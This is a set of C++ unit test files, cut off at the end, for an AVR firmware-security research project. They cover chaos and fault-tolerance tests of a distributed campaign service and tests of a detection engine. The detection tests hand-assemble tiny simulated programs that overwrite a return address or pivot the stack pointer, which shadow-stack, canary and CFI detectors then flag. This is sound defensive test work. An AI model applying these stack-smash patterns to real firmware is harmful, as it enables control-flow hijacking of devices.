// bit-identical to in-process, bounded wall-clock, no livelock. Rate 0
// runs as the control arm and must inject *nothing*.
//
// The suite is sanitizer-friendly by construction (threads, no fork) and
// is expected to pass under MAVR_SANITIZE and MAVR_TSAN builds.
#include <unistd.h>

#include <atomic>
#include <cstdint>
#include <cstring>
#include <string>
#include <thread>
#include <vector>

#include <gtest/gtest.h>

#include "campaign/export.hpp"
#include "campaign/scenarios.hpp"
#include "campaignd/client.hpp"
#include "campaignd/coordinator.hpp"
#include "campaignd/worker.hpp"
#include "support/netfault.hpp"
#include "support/rng.hpp"

namespace {

using namespace mavr;

campaign::CampaignConfig model_config(std::uint64_t trials) {
  campaign::CampaignConfig config;
  config.scenario = campaign::Scenario::kBruteForceRerand;
  config.trials = trials;
  config.jobs = 4;
  config.seed = 0xC0FFEE;
  config.n_functions = 5;
  return config;
}

bool bitwise_equal(const campaign::CampaignStats& a,
                   const campaign::CampaignStats& b) {
  return std::memcmp(&a, &b, sizeof a) == 0;
}

std::string unix_endpoint(const char* tag) {
  std::string name =
      ::testing::UnitTest::GetInstance()->current_test_info()->name();
  for (char& c : name) {
    if (c == '/') c = '_';
  }
  // The pid keeps concurrent runs of the same test (e.g. the asan and
  // tsan build trees side by side) off each other's socket.
  return "unix:" + ::testing::TempDir() + "mavr_chaos_" + name + tag + "_" +
         std::to_string(::getpid()) + ".sock";
}

/// Worker threads whose every connection is armed from `plane` (when
/// non-null) — chaos on the worker side of the wire, independent of the
/// coordinator side.
class ChaosPool {
 public:
  ChaosPool(std::string endpoint, support::NetFaultPlane* plane)
      : endpoint_(std::move(endpoint)), plane_(plane) {}
  ~ChaosPool() { join(); }

  void start(int n, std::uint64_t max_chunks = 0) {
    for (int i = 0; i < n; ++i) {
      threads_.emplace_back([this, max_chunks] {
        campaignd::WorkerOptions options;
        options.connect_attempts = 200;
        options.backoff_ms = 5;
        options.reconnect_backoff_ms = 5;
        options.reconnect_backoff_max_ms = 100;
        options.reply_timeout_ms = 400;  // bound what a half-open costs
        options.max_chunks = max_chunks;
        options.stop = &stop_;
        options.fault_plane = plane_;
        campaignd::run_worker(endpoint_, options);
      });
    }
  }
  void join() {
    stop_.store(true);
    for (std::thread& t : threads_) {
      if (t.joinable()) t.join();
    }
    threads_.clear();
    stop_.store(false);
  }

 private:
  std::string endpoint_;
  support::NetFaultPlane* plane_;
  std::atomic<bool> stop_{false};
  std::vector<std::thread> threads_;
};

/// One full campaign with fault pressure `rate` on BOTH ends of every
/// connection. Returns the coordinator-side injected-fault total.
std::uint64_t run_chaos_campaign(double rate, int workers,
                                 const campaign::CampaignConfig& config,
                                 const campaign::CampaignStats& expect,
                                 const char* tag) {
  campaignd::CoordinatorConfig cc;
  cc.listen_endpoint = unix_endpoint(tag);
  cc.wait_hint_ms = 5;
  cc.worker_timeout_ms = 3'000;  // reclaim from hung peers promptly
  cc.speculation_min_ms = 500;
  cc.net_faults = support::NetFaultConfig::uniform(rate);
  cc.net_fault_seed = 0xFA017;  // fixed: the schedule replays exactly
  campaignd::Coordinator coordinator(cc);
  coordinator.start();

  support::NetFaultPlane worker_plane(support::NetFaultConfig::uniform(rate),
                                      support::Rng(0xFA018));
  ChaosPool pool(coordinator.endpoint(), rate > 0 ? &worker_plane : nullptr);
  pool.start(workers);

  // The client rides the same storm as everyone else.
  support::NetFaultPlane client_plane(support::NetFaultConfig::uniform(rate),
                                      support::Rng(0xFA019));
  campaignd::ClientOptions client;
  client.fault_plane = rate > 0 ? &client_plane : nullptr;
  client.max_retries = 40;
  client.retry_backoff_ms = 5;
  client.retry_backoff_max_ms = 200;
  client.reply_timeout_ms = 400;

  const auto submit =
      campaignd::submit_campaign(coordinator.endpoint(), config, client);
  EXPECT_TRUE(submit.ok) << submit.error;
  const auto done = campaignd::wait_campaign(
      coordinator.endpoint(), submit.campaign_id, client,
      /*interval_ms=*/10, /*timeout_ms=*/240'000);
  EXPECT_TRUE(done.ok) << done.error;
  EXPECT_EQ(done.status.state, campaignd::CampaignState::kDone);

  // Chaos may cost time, never bits — stats and exports byte-for-byte.
  EXPECT_TRUE(bitwise_equal(done.status.stats, expect))
      << "stats diverged at fault rate " << rate;
  EXPECT_EQ(campaign::to_csv(config, done.status.stats),
            campaign::to_csv(config, expect));
  EXPECT_EQ(campaign::to_json(config, done.status.stats),
            campaign::to_json(config, expect));

  pool.join();
  coordinator.stop();
  if (rate == 0) {
    EXPECT_EQ(worker_plane.stats().total(), 0u);
    EXPECT_EQ(client_plane.stats().total(), 0u);
  }
  return coordinator.net_fault_stats().total();
}

TEST(ChaosTest, FaultRateSweepStaysBitIdentical) {
  const campaign::CampaignConfig config = model_config(/*trials=*/640);
  const campaign::CampaignStats in_process = campaign::run_campaign(config);

  // Rate 0 is the control arm: identical machinery, zero injections.
  EXPECT_EQ(run_chaos_campaign(0.0, 3, config, in_process, "r0"), 0u);
  // Light and heavy pressure; the heavy arm sees real fault volume.
  EXPECT_GT(run_chaos_campaign(0.01, 3, config, in_process, "r1"), 0u);
  EXPECT_GT(run_chaos_campaign(0.05, 3, config, in_process, "r5"), 0u);
}

TEST(ChaosTest, CompoundFailureStillConverges) {
  // Everything at once: a faulty wire on every connection, workers that
  // keep dying mid-assignment and being replaced (the supervisor's
  // restart behavior, modelled by respawning short-lived workers), a
  // wedged straggler, and speculation cleaning up after it.
  const campaign::CampaignConfig config = model_config(/*trials=*/640);
  const campaign::CampaignStats in_process = campaign::run_campaign(config);

  campaignd::CoordinatorConfig cc;
  cc.listen_endpoint = unix_endpoint("compound");
  cc.wait_hint_ms = 5;
  cc.assign_chunks = 4;
  cc.worker_timeout_ms = 3'000;
  cc.speculation_min_ms = 300;
  cc.net_faults = support::NetFaultConfig::uniform(0.02);
  cc.net_fault_seed = 0xBAD;
  campaignd::Coordinator coordinator(cc);
  coordinator.start();
  const std::string endpoint = coordinator.endpoint();

  // A crash-looping worker: dies after every 2 chunks, is "respawned".
  // The stop flag also covers the post-campaign idle case — once no work
  // is left, the current incarnation never reaches max_chunks and must
  // be told to wind down.
  std::atomic<bool> crashers_done{false};
  std::thread crash_loop([&endpoint, &crashers_done] {
    while (!crashers_done.load()) {
      campaignd::WorkerOptions options;
      options.connect_attempts = 50;
      options.backoff_ms = 5;
      options.reply_timeout_ms = 400;
      options.max_chunks = 2;
      options.stop = &crashers_done;
      campaignd::run_worker(endpoint, options);
      std::this_thread::sleep_for(std::chrono::milliseconds(20));
    }
  });
  // A straggler that wedges holding chunks, and one healthy worker.
  campaignd::WorkerOptions stalled;
  stalled.stall_after_chunks = 1;
  stalled.reply_timeout_ms = 400;
  ChaosPool pool(endpoint, nullptr);
  pool.start(1);
  std::atomic<bool> stall_stop{false};
  std::thread straggler([&endpoint, &stalled, &stall_stop] {
    auto options = stalled;
    options.stop = &stall_stop;
    campaignd::run_worker(endpoint, options);
  });

  // The coordinator's fault plane arms *accepted* connections, so the
  // client shares the chaos and needs its retry budget.
  campaignd::ClientOptions client;
  client.max_retries = 40;
  client.retry_backoff_ms = 5;
  client.retry_backoff_max_ms = 200;
  client.reply_timeout_ms = 400;
  const auto submit = campaignd::submit_campaign(endpoint, config, client);
  ASSERT_TRUE(submit.ok) << submit.error;
  const auto done = campaignd::wait_campaign(
      endpoint, submit.campaign_id, client, /*interval_ms=*/10,
      /*timeout_ms=*/240'000);
  crashers_done.store(true);
  stall_stop.store(true);
  crash_loop.join();
  straggler.join();
  pool.join();

  ASSERT_TRUE(done.ok) << done.error;
  EXPECT_TRUE(bitwise_equal(done.status.stats, in_process));
  // The storm actually happened: faults hit the wire and chunks came
  // back more than once (crashers redo reclaimed chunks; duplicates are
  // detected, not double-merged).
  EXPECT_GT(coordinator.net_fault_stats().total(), 0u);
  const auto counters = coordinator.counters();
  EXPECT_GT(counters.chunks_reclaimed + counters.duplicate_results +
                counters.speculative_assigns,
            0u);
  coordinator.stop();
}

}  // namespace
