// End-to-end campaignd service tests, all built on the acceptance
// invariant: campaign stats computed by the service — any worker count,
// any transport, workers dying mid-assignment, even a kill-and-resume
// across coordinator instances — are bit-identical to `run_campaign`
// in-process, and so are the CSV/JSON exports.
//
// The whole matrix runs twice, parameterized over the transport: AF_UNIX
// and TCP loopback (ephemeral port, so parallel ctest runs cannot
// collide). Workers run as in-process threads speaking the real framed
// protocol (sanitizer-friendly: no fork). Worker *death* is modelled by
// WorkerOptions::max_chunks — the worker walks away mid-assignment and
// its connection closes, which is exactly what the coordinator sees when
// a worker process is kill -9'd.
#include <atomic>
#include <cstdio>
#include <cstring>
#include <string>
#include <thread>
#include <vector>

#include <gtest/gtest.h>

#include "campaign/export.hpp"
#include "campaign/scenarios.hpp"
#include "campaignd/client.hpp"
#include "campaignd/coordinator.hpp"
#include "campaignd/worker.hpp"

namespace {

using namespace mavr;

campaign::CampaignConfig model_config(std::uint64_t trials) {
  campaign::CampaignConfig config;
  config.scenario = campaign::Scenario::kBruteForceRerand;
  config.trials = trials;
  config.jobs = 4;  // in-process baseline parallelism; not transmitted
  config.seed = 0xC0FFEE;
  config.n_functions = 5;
  return config;
}

bool bitwise_equal(const campaign::CampaignStats& a,
                   const campaign::CampaignStats& b) {
  return std::memcmp(&a, &b, sizeof a) == 0;
}

/// Worker threads with a shared cooperative stop flag.
class WorkerPool {
 public:
  explicit WorkerPool(std::string endpoint)
      : endpoint_(std::move(endpoint)) {}
  ~WorkerPool() { join(); }

  void start(int n, std::uint64_t max_chunks = 0) {
    for (int i = 0; i < n; ++i) {
      threads_.emplace_back([this, max_chunks] {
        campaignd::WorkerOptions options;
        options.connect_attempts = 20;
        options.backoff_ms = 5;
        options.max_chunks = max_chunks;
        options.stop = &stop_;
        campaignd::run_worker(endpoint_, options);
      });
    }
  }

  /// Waits for workers that exit on their own (max_chunks reached)
  /// without raising the stop flag.
  void wait_exit() {
    for (std::thread& t : threads_) {
      if (t.joinable()) t.join();
    }
    threads_.clear();
  }

  void join() {
    stop_.store(true);
    for (std::thread& t : threads_) {
      if (t.joinable()) t.join();
    }
    threads_.clear();
    stop_.store(false);
  }

 private:
  std::string endpoint_;
  std::atomic<bool> stop_{false};
  std::vector<std::thread> threads_;
};

enum class Transport { kUnix, kTcp };

class ServiceTest : public ::testing::TestWithParam<Transport> {
 protected:
  std::string sock_path_;
  std::string ckpt_path_;

  void SetUp() override {
    // ctest runs every case as its own process, concurrently — the
    // rendezvous paths must be unique per case or parallel runs collide.
    std::string tag =
        ::testing::UnitTest::GetInstance()->current_test_info()->name();
    for (char& c : tag) {
      if (c == '/') c = '_';
    }
    sock_path_ = ::testing::TempDir() + "mavr_svc_" + tag + ".sock";
    ckpt_path_ = ::testing::TempDir() + "mavr_svc_" + tag + ".ckpt";
    std::remove(sock_path_.c_str());
    std::remove(ckpt_path_.c_str());
  }
  void TearDown() override {
    std::remove(sock_path_.c_str());
    std::remove(ckpt_path_.c_str());
  }

  /// The spec the coordinator binds. TCP uses port 0: the kernel picks a
  /// free port and coordinator.endpoint() reports it.
  std::string listen_spec() const {
    return GetParam() == Transport::kUnix ? "unix:" + sock_path_
                                          : "tcp:127.0.0.1:0";
  }

  campaignd::CoordinatorConfig coordinator_config() {
    campaignd::CoordinatorConfig config;
    config.listen_endpoint = listen_spec();
    config.wait_hint_ms = 5;  // idle workers re-poll fast in tests
    return config;
  }

  /// Submits, waits for completion, and returns the final stats.
  campaign::CampaignStats run_via_service(
      const std::string& endpoint, const campaign::CampaignConfig& config) {
    const campaignd::SubmitOutcome submit =
        campaignd::submit_campaign(endpoint, config);
    EXPECT_TRUE(submit.ok) << submit.error;
    const campaignd::PollOutcome done = campaignd::wait_campaign(
        endpoint, submit.campaign_id, /*interval_ms=*/10,
        /*timeout_ms=*/60'000);
    EXPECT_TRUE(done.ok) << done.error;
    EXPECT_EQ(done.status.state, campaignd::CampaignState::kDone);
    EXPECT_EQ(done.status.chunks_done, done.status.chunks_total);
    return done.status.stats;
  }
};

TEST_P(ServiceTest, MatchesInProcessBitExactAtAnyWorkerCount) {
  const campaign::CampaignConfig config = model_config(/*trials=*/1000);
  const campaign::CampaignStats in_process = campaign::run_campaign(config);

  for (int workers : {1, 4}) {
    campaignd::Coordinator coordinator(coordinator_config());
    coordinator.start();
    const std::string endpoint = coordinator.endpoint();
    WorkerPool pool(endpoint);
    pool.start(workers);
    const campaign::CampaignStats via_service =
        run_via_service(endpoint, config);
    pool.join();
    coordinator.stop();

    EXPECT_TRUE(bitwise_equal(via_service, in_process))
        << "stats diverged with " << workers << " workers";
    // The determinism contract extends to the exporters byte-for-byte.
    EXPECT_EQ(campaign::to_csv(config, via_service),
              campaign::to_csv(config, in_process));
    EXPECT_EQ(campaign::to_json(config, via_service),
              campaign::to_json(config, in_process));
  }
}

TEST_P(ServiceTest, WorkerDeathMidAssignmentIsReassigned) {
  const campaign::CampaignConfig config = model_config(/*trials=*/640);
  const campaign::CampaignStats in_process = campaign::run_campaign(config);

  campaignd::CoordinatorConfig cc = coordinator_config();
  cc.assign_chunks = 4;      // deserter dies holding part of an assignment
  cc.worker_timeout_ms = 2'000;
  campaignd::Coordinator coordinator(cc);
  coordinator.start();
  const std::string endpoint = coordinator.endpoint();

  // The deserter completes 3 of its 4 assigned chunks, then its
  // connection drops; the survivor must pick up the abandoned chunk.
  WorkerPool deserter(endpoint);
  deserter.start(1, /*max_chunks=*/3);
  WorkerPool survivor(endpoint);
  survivor.start(1);

  const campaign::CampaignStats via_service =
      run_via_service(endpoint, config);
  deserter.join();
  survivor.join();
  coordinator.stop();

  EXPECT_TRUE(bitwise_equal(via_service, in_process));
}

TEST_P(ServiceTest, KillAndResumeProducesIdenticalResults) {
  const campaign::CampaignConfig config = model_config(/*trials=*/640);
  const std::uint64_t n_chunks = campaign::num_chunks(config.trials);
  ASSERT_EQ(n_chunks, 10u);
  const campaign::CampaignStats in_process = campaign::run_campaign(config);

  campaignd::CoordinatorConfig cc = coordinator_config();
  cc.checkpoint_path = ckpt_path_;
  cc.assign_chunks = 1;  // one chunk per round-trip: exactly 5 checkpointed
  std::uint64_t campaign_id = 0;

  {
    // First life: the lone worker dies after 5 chunks, then the
    // coordinator itself is torn down mid-campaign.
    campaignd::Coordinator coordinator(cc);
    coordinator.start();
    const std::string endpoint = coordinator.endpoint();
    const campaignd::SubmitOutcome submit =
        campaignd::submit_campaign(endpoint, config);
    ASSERT_TRUE(submit.ok) << submit.error;
    campaign_id = submit.campaign_id;

    WorkerPool pool(endpoint);
    pool.start(1, /*max_chunks=*/5);
    pool.wait_exit();  // returns on its own after exactly 5 acked chunks

    const campaignd::PollOutcome mid =
        campaignd::poll_campaign(endpoint, campaign_id);
    ASSERT_TRUE(mid.ok) << mid.error;
    EXPECT_EQ(mid.status.state, campaignd::CampaignState::kRunning);
    EXPECT_EQ(mid.status.chunks_done, 5u);
    EXPECT_EQ(mid.status.trials_done, 5u * campaign::kChunkTrials);
    // The incremental aggregate covers exactly the completed trials.
    EXPECT_EQ(mid.status.stats.trials, 5u * campaign::kChunkTrials);
    coordinator.stop();
  }

  {
    // Second life: a fresh coordinator on the same checkpoint store (over
    // TCP it comes up on a *new* ephemeral port — resume does not depend
    // on the address surviving). Resubmitting the same config must
    // resume — 5 chunks done *before* any worker exists.
    campaignd::Coordinator coordinator(cc);
    coordinator.start();
    const std::string endpoint = coordinator.endpoint();
    const campaignd::SubmitOutcome submit =
        campaignd::submit_campaign(endpoint, config);
    ASSERT_TRUE(submit.ok) << submit.error;

    const campaignd::PollOutcome resumed =
        campaignd::poll_campaign(endpoint, submit.campaign_id);
    ASSERT_TRUE(resumed.ok) << resumed.error;
    EXPECT_EQ(resumed.status.chunks_done, 5u);

    WorkerPool pool(endpoint);
    pool.start(1);
    const campaignd::PollOutcome done = campaignd::wait_campaign(
        endpoint, submit.campaign_id, 10, 60'000);
    pool.join();
    coordinator.stop();

    ASSERT_TRUE(done.ok) << done.error;
    EXPECT_TRUE(bitwise_equal(done.status.stats, in_process));
    EXPECT_EQ(campaign::to_csv(config, done.status.stats),
              campaign::to_csv(config, in_process));
    EXPECT_EQ(campaign::to_json(config, done.status.stats),
              campaign::to_json(config, in_process));
  }
}

TEST_P(ServiceTest, FifoSchedulingAndBackpressure) {
  campaignd::CoordinatorConfig cc = coordinator_config();
  cc.max_queue = 2;
  campaignd::Coordinator coordinator(cc);
  coordinator.start();
  const std::string endpoint = coordinator.endpoint();

  campaign::CampaignConfig c1 = model_config(/*trials=*/320);
  campaign::CampaignConfig c2 = model_config(/*trials=*/320);
  c2.seed = 0xBEEF;  // distinct fingerprint
  campaign::CampaignConfig c3 = model_config(/*trials=*/320);
  c3.seed = 0xF00D;

  const campaignd::SubmitOutcome s1 = campaignd::submit_campaign(endpoint, c1);
  const campaignd::SubmitOutcome s2 = campaignd::submit_campaign(endpoint, c2);
  ASSERT_TRUE(s1.ok) << s1.error;
  ASSERT_TRUE(s2.ok) << s2.error;

  // Backpressure: two incomplete campaigns fill the queue.
  const campaignd::SubmitOutcome s3 = campaignd::submit_campaign(endpoint, c3);
  EXPECT_FALSE(s3.ok);
  EXPECT_NE(s3.error.find("queue full"), std::string::npos) << s3.error;

  // Queue position reflects admission order while both are incomplete.
  const campaignd::PollOutcome p2 =
      campaignd::poll_campaign(endpoint, s2.campaign_id);
  ASSERT_TRUE(p2.ok) << p2.error;
  EXPECT_EQ(p2.status.queue_position, 1u);

  // One worker drains the queue in FIFO order: when the *younger*
  // campaign reports done, the older one must already be done.
  WorkerPool pool(endpoint);
  pool.start(1);
  const campaignd::PollOutcome done2 =
      campaignd::wait_campaign(endpoint, s2.campaign_id, 10, 60'000);
  ASSERT_TRUE(done2.ok) << done2.error;
  const campaignd::PollOutcome done1 =
      campaignd::poll_campaign(endpoint, s1.campaign_id);
  ASSERT_TRUE(done1.ok) << done1.error;
  EXPECT_EQ(done1.status.state, campaignd::CampaignState::kDone);

  // With the queue drained there is room again.
  const campaignd::SubmitOutcome s4 = campaignd::submit_campaign(endpoint, c3);
  EXPECT_TRUE(s4.ok) << s4.error;
  pool.join();
  coordinator.stop();
}

TEST_P(ServiceTest, RejectsBadSubmitsAndUnknownPolls) {
  campaignd::Coordinator coordinator(coordinator_config());
  coordinator.start();
  const std::string endpoint = coordinator.endpoint();

  campaign::CampaignConfig zero = model_config(1);
  zero.trials = 0;
  const campaignd::SubmitOutcome s = campaignd::submit_campaign(endpoint, zero);
  EXPECT_FALSE(s.ok);
  EXPECT_NE(s.error.find("trials"), std::string::npos) << s.error;

  const campaignd::PollOutcome p = campaignd::poll_campaign(endpoint, 424242);
  EXPECT_FALSE(p.ok);
  EXPECT_NE(p.error.find("unknown"), std::string::npos) << p.error;
  coordinator.stop();
}

TEST_P(ServiceTest, HeterogeneousWorkerSpeedsStayBitIdentical) {
  // A deliberately skewed pool: one worker that dies and reconnects
  // repeatedly (max_chunks=1 per life would end the pool thread, so use
  // 2) alongside a healthy one, with the throughput-aware grain active.
  // However the scheduler splits the batches, the merge must not notice.
  const campaign::CampaignConfig config = model_config(/*trials=*/1000);
  const campaign::CampaignStats in_process = campaign::run_campaign(config);

  campaignd::CoordinatorConfig cc = coordinator_config();
  cc.assign_chunks = 8;
  campaignd::Coordinator coordinator(cc);
  coordinator.start();
  const std::string endpoint = coordinator.endpoint();

  WorkerPool flaky(endpoint);
  flaky.start(1, /*max_chunks=*/2);
  WorkerPool steady(endpoint);
  steady.start(2);

  const campaign::CampaignStats via_service =
      run_via_service(endpoint, config);
  flaky.join();
  steady.join();
  coordinator.stop();

  EXPECT_TRUE(bitwise_equal(via_service, in_process));
}

INSTANTIATE_TEST_SUITE_P(Transports, ServiceTest,
                         ::testing::Values(Transport::kUnix, Transport::kTcp),
                         [](const auto& info) {
                           return info.param == Transport::kUnix ? "Unix"
                                                                 : "Tcp";
                         });

}  // namespace
