// detect::Engine unit behaviour: each detector exercised in isolation on
// hand-assembled programs, plus the parse/format helpers and the
// master-processor wiring (trip → recovery reflash → latch cleared).
#include <gtest/gtest.h>

#include "defense/external_flash.hpp"
#include "defense/master.hpp"
#include "defense/preprocess.hpp"
#include "detect/engine.hpp"
#include "firmware/generator.hpp"
#include "firmware/profile.hpp"
#include "sim/board.hpp"
#include "toolchain/encode.hpp"

namespace mavr {
namespace {

using avr::Cpu;
using avr::CpuState;
using avr::Op;
using detect::Detector;
using detect::Engine;
using detect::EngineConfig;
using namespace mavr::toolchain;

class EngineTest : public ::testing::Test {
 protected:
  EngineTest() : cpu_(avr::atmega2560()) {}

  support::Bytes to_bytes(std::initializer_list<std::uint16_t> words) {
    support::Bytes bytes;
    for (std::uint16_t w : words) {
      bytes.push_back(static_cast<std::uint8_t>(w & 0xFF));
      bytes.push_back(static_cast<std::uint8_t>(w >> 8));
    }
    return bytes;
  }

  void load(std::initializer_list<std::uint16_t> words) {
    program_ = to_bytes(words);
    cpu_.flash().erase();
    cpu_.flash().program(program_);
    cpu_.reset();
  }

  void arm(unsigned detectors) {
    EngineConfig config;
    config.detectors = detectors;
    engine_ = std::make_unique<Engine>(config);
    engine_->arm(cpu_);
    if (detectors & detect::kDetectReturnCfi) {
      engine_->rebuild(program_,
                       static_cast<std::uint32_t>(program_.size()));
    }
  }

  void step(int n = 1) {
    for (int i = 0; i < n; ++i) cpu_.step();
  }

  Cpu cpu_;
  support::Bytes program_;
  std::unique_ptr<Engine> engine_;
};

// --- Parse / format helpers --------------------------------------------------

TEST(DetectorSet, NamesRoundTrip) {
  EXPECT_EQ(detect::detector_set_name(detect::kDetectNone), "none");
  EXPECT_EQ(detect::detector_set_name(detect::kDetectAll),
            "canary+shadow+sp-bounds+cfi");
  EXPECT_EQ(detect::detector_set_name(detect::kDetectShadowStack |
                                      detect::kDetectReturnCfi),
            "shadow+cfi");
  for (unsigned mask = 0; mask <= detect::kDetectAll; ++mask) {
    const auto parsed =
        detect::parse_detector_set(detect::detector_set_name(mask));
    ASSERT_TRUE(parsed.has_value());
    EXPECT_EQ(*parsed, mask);
  }
}

TEST(DetectorSet, ParseAcceptsAliasesAndRejectsJunk) {
  EXPECT_EQ(detect::parse_detector_set("all"), detect::kDetectAll);
  EXPECT_EQ(detect::parse_detector_set("none"), detect::kDetectNone);
  EXPECT_EQ(detect::parse_detector_set("cfi,canary"),
            detect::kDetectReturnCfi | detect::kDetectCanary);
  EXPECT_FALSE(detect::parse_detector_set("shadow,bogus").has_value());
  EXPECT_FALSE(detect::parse_detector_set("dep").has_value());
}

// --- Shadow stack ------------------------------------------------------------

TEST_F(EngineTest, ShadowStackSilentOnMatchedCallRet) {
  // call 3 ; break ; ret — the ret pops exactly what the call pushed.
  load({enc_abs_jump(Op::Call, 3).first, enc_abs_jump(Op::Call, 3).second,
        enc_no_operand(Op::Break), enc_no_operand(Op::Ret)});
  arm(detect::kDetectShadowStack);
  step(3);
  EXPECT_EQ(cpu_.state(), CpuState::Stopped);
  EXPECT_FALSE(engine_->tripped());
  EXPECT_EQ(engine_->total_trips(), 0u);
}

TEST_F(EngineTest, ShadowStackFlagsOverwrittenReturnSlot) {
  // The callee rewrites the low byte of its own return slot (0x21FF after
  // the reset-time call) before returning — the minimal stack smash.
  load({enc_imm(Op::Ldi, 24, 0x42),                // w0
        enc_abs_jump(Op::Call, 5).first,           // w1
        enc_abs_jump(Op::Call, 5).second,          // w2
        enc_no_operand(Op::Break),                 // w3 (legit return: pc=3)
        0x0000,                                    // w4
        enc_sts(0x21FF, 24).first,                 // w5
        enc_sts(0x21FF, 24).second,                // w6
        enc_no_operand(Op::Ret)});                 // w7
  arm(detect::kDetectShadowStack);
  step(4);  // ldi, call, sts, ret
  ASSERT_TRUE(engine_->tripped());
  ASSERT_FALSE(engine_->verdicts().empty());
  const detect::Verdict& v = engine_->verdicts().front();
  EXPECT_EQ(v.detector, Detector::kShadowStack);
  EXPECT_EQ(v.value, 0x42u);  // the popped (attacker) target
  EXPECT_EQ(engine_->total_trips(), 1u);
}

TEST_F(EngineTest, RetOnEmptyShadowIgnored) {
  // A ret with no mirrored call (engine attached mid-run / entry frame):
  // stage a fake return address by hand, then execute a bare ret.
  load({enc_no_operand(Op::Ret), enc_no_operand(Op::Break)});
  arm(detect::kDetectShadowStack);
  cpu_.set_sp(0x21FC);
  cpu_.data().set_raw(0x21FD, 0);
  cpu_.data().set_raw(0x21FE, 0);
  cpu_.data().set_raw(0x21FF, 1);  // ret → word 1
  step(2);
  EXPECT_EQ(cpu_.state(), CpuState::Stopped);
  EXPECT_FALSE(engine_->tripped());
}

// --- SP bounds ---------------------------------------------------------------

TEST_F(EngineTest, SpBoundsSilentInsideLegalRegion) {
  // Move SP around within [RAMEND-511, RAMEND].
  load({enc_imm(Op::Ldi, 29, 0x20), enc_imm(Op::Ldi, 28, 0x00),
        enc_out(avr::kIoSph, 29), enc_out(avr::kIoSpl, 28),
        enc_no_operand(Op::Break)});
  arm(detect::kDetectSpBounds);
  EXPECT_EQ(engine_->stack_lo(), 0x2000);
  EXPECT_EQ(engine_->stack_hi(), 0x21FF);
  step(5);
  EXPECT_FALSE(engine_->tripped());
}

TEST_F(EngineTest, SpBoundsFlagsPivotBelowStackFloor) {
  // The V3-style pivot: SPH ← 0x1A puts SP below the legal floor on the
  // very first half of the pivot write.
  load({enc_imm(Op::Ldi, 29, 0x1A), enc_out(avr::kIoSph, 29),
        enc_no_operand(Op::Break)});
  arm(detect::kDetectSpBounds);
  step(2);
  ASSERT_TRUE(engine_->tripped());
  const detect::Verdict& v = engine_->verdicts().front();
  EXPECT_EQ(v.detector, Detector::kSpBounds);
  EXPECT_EQ(v.value, 0x1AFFu);  // new SP: 0x1A:FF (low byte still reset-time)
  // Edge-triggered: staying outside fires no further verdicts.
  EXPECT_EQ(engine_->total_trips(), 1u);
}

// --- Canary / stack-slot integrity -------------------------------------------

TEST_F(EngineTest, CanaryFlagsSmashedSlotAtFault) {
  // V1 in miniature: the callee smashes its return slot, then the core
  // faults (invalid opcode) while the frame is still live.
  load({enc_abs_jump(Op::Call, 3).first, enc_abs_jump(Op::Call, 3).second,
        enc_no_operand(Op::Break),
        enc_imm(Op::Ldi, 24, 0x99),                // w3
        enc_sts(0x21FF, 24).first,                 // w4
        enc_sts(0x21FF, 24).second,                // w5
        0x0001});                                  // w6: reserved opcode
  arm(detect::kDetectCanary);
  step(4);
  EXPECT_EQ(cpu_.state(), CpuState::Faulted);
  ASSERT_TRUE(engine_->tripped());
  const detect::Verdict& v = engine_->verdicts().front();
  EXPECT_EQ(v.detector, Detector::kCanary);
  EXPECT_EQ(v.value, 0x21FDu);  // the 3-byte slot's lowest address
}

TEST_F(EngineTest, CanarySilentWithoutFault) {
  // V2's defining property: the smashed slot is popped by a clean return
  // and the core keeps running — frame-free time must NOT be verified, so
  // the canary detector stays silent (the shadow stack is what catches
  // this; see the campaign hierarchy tests).
  load({enc_abs_jump(Op::Call, 4).first, enc_abs_jump(Op::Call, 4).second,
        enc_no_operand(Op::Break),                 // w2 (legit return)
        enc_no_operand(Op::Break),                 // w3 (attacker landing)
        enc_imm(Op::Ldi, 24, 0x03),                // w4: redirect lo byte → 3
        enc_sts(0x21FF, 24).first,                 // w5
        enc_sts(0x21FF, 24).second,                // w6
        enc_no_operand(Op::Ret)});                 // w7
  arm(detect::kDetectCanary);
  step(5);  // call, ldi, sts, ret, break (attacker landing)
  EXPECT_EQ(cpu_.state(), CpuState::Stopped);
  EXPECT_FALSE(engine_->tripped());
}

// --- Return-edge CFI ---------------------------------------------------------

TEST_F(EngineTest, CfiSilentOnCallSiteSuccessor) {
  load({enc_abs_jump(Op::Call, 3).first, enc_abs_jump(Op::Call, 3).second,
        enc_no_operand(Op::Break), enc_no_operand(Op::Ret)});
  arm(detect::kDetectReturnCfi);
  step(3);
  EXPECT_EQ(cpu_.state(), CpuState::Stopped);
  EXPECT_FALSE(engine_->tripped());
}

TEST_F(EngineTest, CfiFlagsRetToNonSuccessor) {
  // Same smash as the shadow test, but judged statically: word 5 is a
  // gadget entry, not any call's successor.
  load({enc_imm(Op::Ldi, 24, 0x05),                // w0
        enc_abs_jump(Op::Call, 5).first,           // w1
        enc_abs_jump(Op::Call, 5).second,          // w2
        enc_no_operand(Op::Break),                 // w3
        0x0000,                                    // w4
        enc_sts(0x21FF, 24).first,                 // w5
        enc_sts(0x21FF, 24).second,                // w6
        enc_no_operand(Op::Ret)});                 // w7
  arm(detect::kDetectReturnCfi);
  step(4);
  ASSERT_TRUE(engine_->tripped());
  const detect::Verdict& v = engine_->verdicts().front();
  EXPECT_EQ(v.detector, Detector::kReturnCfi);
  EXPECT_EQ(v.value, 0x05u);
}

TEST_F(EngineTest, CfiExemptsReti) {
  // An interrupt may return to any interrupted PC: a hand-staged RETI to a
  // non-successor must not trip (a plain RET to the same address would).
  load({enc_no_operand(Op::Reti), enc_no_operand(Op::Break),
        enc_no_operand(Op::Break)});
  arm(detect::kDetectReturnCfi);
  cpu_.set_sp(0x21FC);
  cpu_.data().set_raw(0x21FD, 0);
  cpu_.data().set_raw(0x21FE, 0);
  cpu_.data().set_raw(0x21FF, 2);  // word 2: no call successor there
  step(2);
  EXPECT_EQ(cpu_.state(), CpuState::Stopped);
  EXPECT_FALSE(engine_->tripped());
}

// --- Latching and reset ------------------------------------------------------

TEST_F(EngineTest, ResetDynamicClearsLatchKeepsLog) {
  load({enc_imm(Op::Ldi, 29, 0x1A), enc_out(avr::kIoSph, 29),
        enc_no_operand(Op::Break)});
  arm(detect::kDetectSpBounds);
  step(2);
  ASSERT_TRUE(engine_->tripped());
  engine_->reset_dynamic();
  EXPECT_FALSE(engine_->tripped());
  EXPECT_EQ(engine_->total_trips(), 1u);
  EXPECT_EQ(engine_->verdicts().size(), 1u);
}

// --- Master wiring -----------------------------------------------------------

const std::string& good_hex() {
